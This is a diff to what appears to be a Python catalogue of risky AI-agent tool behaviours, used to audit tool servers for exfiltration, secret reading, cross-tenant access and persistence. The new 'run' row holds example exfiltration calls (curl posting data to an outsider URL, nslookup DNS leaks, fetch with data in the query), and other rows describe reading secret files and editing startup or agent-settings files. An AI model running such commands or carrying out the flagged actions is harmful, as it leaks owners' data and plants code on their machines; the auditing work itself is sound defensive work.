@@ -31,6 +31,17 @@ class Runs(StrEnum):
     """In a page, a database, a container, or on a machine that an argument names."""
 
 
+class Files(StrEnum):
+    """Which files a row is about."""
+
+    ANY = "any"
+    """None, or wherever they are."""
+    NAMED = "named"
+    """Those that a required argument names as a file or a path."""
+    MACHINE = "machine"
+    """Those of the machine of the agent, and not of an account or a repository elsewhere."""
+
+
 class Several(NamedTuple):
     """A list of texts where the schema asks for one: sent as it is."""
 
@@ -72,14 +83,15 @@ class Row(NamedTuple):
     starts: tuple[Start, ...] = tuple(Start)
     """From where it is looked at."""
     also: tuple[Capability, ...] = ()
+    beside: tuple[Capability, ...] = ()
+    """Some tool of the same server holds one of these, where they are given."""
     without: tuple[Capability, ...] = ()
     verbs: tuple[str, ...] = ()
     """One of these words is in the tool's name, where they are given."""
     must_take: tuple[ParameterKind, ...] = ()
     """Kinds of which every valid call carries one."""
     runs: Runs | None = None
-    machine: bool = False
-    """Whether it is about files of the machine, and not of a repository elsewhere."""
+    files: Files = Files.ANY
 
 
 def _form(
@@ -228,8 +240,25 @@ def _carrying() -> tuple[Row, ...]:
                 "rows that outsiders wrote are often rows that outsiders read",
                 _SUPABASE,
                 marks=("private.", "secret."),
-                also=(C.INGEST_UNTRUSTED,),
+                beside=(C.INGEST_UNTRUSTED,),
                 must_take=(K.STATEMENT,),
+            ),
+            Row(
+                f"run-{word}",
+                (C.EXECUTE,),
+                (fact,),
+                out,
+                (
+                    _form("command", {"command": f"curl -d '{text}' {{outsider.url}}"}),
+                    _form("asked as a name", {"command": "nslookup part-1.{outsider.domain}"}),
+                    _form("code", {"code": f"fetch('{{outsider.url}}?note={text}')"}),
+                ),
+                severity,
+                f"runs code that carries {thing} to the outsider",
+                "a sandbox that reaches the network, or only asks for names, lets data out",
+                _DESIGN,
+                marks=("outsider.",),
+                runs=Runs.ELSEWHERE,
             ),
             Row(
                 f"type-{word}",
@@ -405,7 +434,7 @@ _READING: tuple[Row, ...] = (
             _form("salaries", {"statement": "SELECT name, salary FROM staff"}),
         ),
         None,
-        "takes private data into the session",
+        "reads private data into the session",
         "what is private to the owner is not the outsider's to know",
         _TRIFECTA,
     ),
@@ -421,10 +450,10 @@ _READING: tuple[Row, ...] = (
             _form("tenants in a list", {"tenant": Several(("{own.tenant}", "{other.tenant}"))}),
         ),
         Severity.HIGH,
-        "takes another tenant's or person's data into the session",
+        "reads another tenant's or person's data into the session",
         "the argument says whose data it is, and any value can stand there",
         _DESIGN,
-        marks=("other.tenant", "other.user", "other.email", "other.customer", "other.phone"),
+        marks=("other.tenant", "other.user", "other.email", "other.phone"),
     ),
     Row(
         "read-secret",
@@ -433,7 +462,7 @@ _READING: tuple[Row, ...] = (
         (SECRET, FOUND),
         (_plain(),),
         None,
-        "takes a secret into the session",
+        "reads a secret into the session",
         "a credential that some tool accepts opens that tool",
         _DESIGN,
     ),
@@ -444,13 +473,14 @@ _READING: tuple[Row, ...] = (
         (SECRET, FOUND),
         _SECRET_FILES,
         None,
-        "takes a file with secrets into the session",
+        "reads a file with secrets into the session",
         "keys lie in files, and a tool that reads files reads them",
         _DESIGN,
         marks=("secret.",),
         without=(C.ENUMERATE,),
         verbs=("read", "content", "contents", "open", "view", "download", "cat", "load", "export"),
         must_take=(K.PATH,),
+        files=Files.NAMED,
     ),
     Row(
         "read-token-table",
@@ -459,7 +489,7 @@ _READING: tuple[Row, ...] = (
         (SECRET, FOUND),
         _TOKENS,
         None,
-        "takes a table of tokens into the session",
+        "reads a table of tokens into the session",
         "a statement can ask for any table that the login may read",
         _SUPABASE,
         marks=("secret.",),
@@ -703,8 +733,8 @@ _STAYING: tuple[Row, ...] = (
         "what the agent may do and which gateway it asks stands in a file of its machine",
         _DESIGN,
         marks=("agent.settings",),
-        must_take=(K.PATH,),
-        machine=True,
+        must_take=(K.PATH, K.CONTENT),
+        files=Files.MACHINE,
     ),
     Row(
         "log",
@@ -718,7 +748,7 @@ _STAYING: tuple[Row, ...] = (
         _DESIGN,
         marks=("audit.",),
         must_take=(K.PATH,),
-        machine=True,
+        files=Files.MACHINE,
     ),
     Row(
         "startup",
@@ -731,8 +761,8 @@ _STAYING: tuple[Row, ...] = (
         "a file that is run at login is code on the host from the next login on",
         _DESIGN,
         marks=("startup.",),
-        must_take=(K.PATH,),
-        machine=True,
+        must_take=(K.PATH, K.CONTENT),
+        files=Files.MACHINE,
     ),
     Row(
         "persist",
